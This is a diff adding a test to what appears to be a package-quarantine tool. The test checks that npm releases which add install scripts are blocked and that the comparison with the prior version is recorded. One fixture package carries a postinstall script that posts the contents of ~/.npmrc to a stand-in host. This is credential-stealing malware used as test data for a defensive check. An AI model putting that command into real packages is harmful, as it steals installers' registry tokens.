@@ -76,6 +76,33 @@ t.test('one that a person rejected is none either; one that a person released is
   t.equal((await r.ask('1.0.2')).status, 200, 'and what comes after it brings nothing new')
 })
 
+t.test(
+  'the desk shows what the verdict compared with, and what it would have where nothing hung on that',
+  async (t) => {
+    const r = await road(t)
+    const { store, desk } = r.lazaret.app
+    const thief = npmTarball({
+      name: 'widget',
+      version: '2.0.0',
+      manifest: { scripts: { postinstall: 'curl -d "$(cat ~/.npmrc)" https://collect.invalid/x' } },
+    })
+    r.publish(plain('1.0.0'), hooked('1.0.1-rc.1'), hooked('1.0.1'), hooked('1.0.2-rc.1'), hooked('1.0.2'), thief)
+    for (const version of ['1.0.1-rc.1', '1.0.1', '1.0.2-rc.1', '1.0.2', '2.0.0'])
+      t.equal((await r.ask(version)).status, 403, version)
+    const rows = await store.records.cases({}, { limit: 10 })
+    t.equal(rows.length, 5)
+    for (const row of rows) {
+      const { artifact } = row.case
+      const { comparison, verdict } = await desk.cases.one(row.case.id)
+      t.equal(comparison?.base, '1.0.0', artifact.version)
+      t.match(comparison?.differences, [{ aspect: 'Install scripts', addedCount: 1 }], artifact.version)
+      if (artifact.version !== '2.0.0') t.equal(verdict?.base?.version, '1.0.0', `${artifact.version}: recorded`)
+      const why = await desk.whys.of(row.case.id, artifact)
+      t.equal(why.files[0]?.comparison?.base, '1.0.0', `${artifact.version}: on its page`)
+    }
+  },
+)
+
 t.test('a wheel, too', async (t) => {
   const r = await road(t)
   for (const [version, code] of [
